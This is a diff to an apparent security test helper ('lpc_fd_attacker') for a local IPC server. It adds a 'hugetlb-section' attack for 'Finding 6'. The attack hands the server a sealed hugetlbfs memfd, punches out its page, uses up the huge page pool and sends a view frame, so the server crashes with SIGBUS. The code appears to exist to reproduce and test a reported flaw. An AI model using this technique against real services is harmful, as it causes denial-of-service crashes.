@@ -12,12 +12,16 @@
 //       as a caller the port admits: the blocking socket rides on a frame
 //       (among F descriptors) or is offered as the connection section;
 //       prints "AFTER <i> <status>" once the server dealt with it
+//   lpc_fd_attacker hugetlb-section --name N [--as-nobody]
+//       offers a hugetlbfs memfd as the connection section ("CONNECT <status>")
+//       and, if the server maps it, takes its page away and uses a view
 #include <fcntl.h>
 #include <grp.h>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
 #include <poll.h>
 #include <signal.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/un.h>
 #include <unistd.h>
@@ -227,6 +231,57 @@ int AllowedLinger(const std::string& name, size_t count, size_t fds_per_message,
   HoldUntilKilled();
 }
 
+// Finding 6: a sealed hugetlbfs memfd as the connection section. Once the
+// server has mapped it, the attacker faults its page in and punches it out
+// (which drops the reservation) and uses up the huge page pool, then points a view frame at
+// it: the server's copy out of the section is SIGBUS.
+int HugetlbSection(const std::string& name) {
+  constexpr size_t kHuge = size_t{2} << 20;
+  UniqueFd section(::memfd_create("alpaca-hugetlb", MFD_CLOEXEC | MFD_ALLOW_SEALING | MFD_HUGETLB));
+  if (!section) Die("memfd hugetlb");
+  if (::ftruncate(section.Get(), kHuge) != 0) Die("ftruncate");
+  if (::fcntl(section.Get(), F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW) != 0) Die("seal");
+  UniqueFd socket = ConnectRaw(name);
+  lpc::wire::ConnectRequest request;
+  request.flags = lpc::wire::kConnectHasSection;
+  request.section_size = kHuge;
+  if (!SendWithFds(socket.Get(), &request, sizeof(request), {section.Get()})) Die("send");
+  int status = ReadConnectStatus(socket.Get());
+  Say("CONNECT " + std::to_string(status));
+  if (status != 0) {
+    Say("DONE");
+    HoldUntilKilled();
+  }
+  // Fault the page in (using up the reservation the server's mapping made),
+  // then punch it out: that frees the page and drops the reservation with it.
+  void* mine = ::mmap(nullptr, kHuge, PROT_READ | PROT_WRITE, MAP_SHARED, section.Get(), 0);
+  if (mine == MAP_FAILED) Die("mmap section");
+  static_cast<volatile char*>(mine)[lpc::wire::kControlSize] = 1;
+  ::munmap(mine, kHuge);
+  int punched = ::fallocate(section.Get(), FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, kHuge);
+  Say("PUNCHED " + std::to_string(punched));
+  std::vector<UniqueFd> hogs;
+  for (int i = 0; i < 4096; ++i) {
+    UniqueFd hog(::memfd_create("alpaca-hog", MFD_CLOEXEC | MFD_HUGETLB));
+    if (!hog || ::ftruncate(hog.Get(), kHuge) != 0) break;
+    void* base = ::mmap(nullptr, kHuge, PROT_READ | PROT_WRITE, MAP_SHARED, hog.Get(), 0);
+    if (base == MAP_FAILED) break;  // the pool is used up
+    static_cast<volatile char*>(base)[0] = 1;
+    hogs.push_back(std::move(hog));
+  }
+  Say("HOGGED " + std::to_string(hogs.size()));
+  lpc::wire::Frame frame{};
+  frame.message.type = lpc::MessageType::kRequest;
+  frame.message.message_id = 1;
+  frame.message.total_length = sizeof(lpc::PortMessageHeader);
+  frame.kind = lpc::wire::PayloadKind::kView;
+  frame.payload_length = 4096;
+  frame.view_sequence = 1;
+  if (!SendWithFds(socket.Get(), &frame, sizeof(frame), {})) Die("send frame");
+  Say("DONE");
+  HoldUntilKilled();
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
@@ -244,6 +299,7 @@ int main(int argc, char** argv) {
   CLI11_PARSE(app, argc, argv);
   if (nobody) DropToNobody();
   if (op == "refused-linger") return RefusedLinger(name, count, fds);
+  if (op == "hugetlb-section") return HugetlbSection(name);
   if (op == "allowed-linger") return AllowedLinger(name, count, fds, kind);
   Say("UNKNOWN_OP");
   return 2;
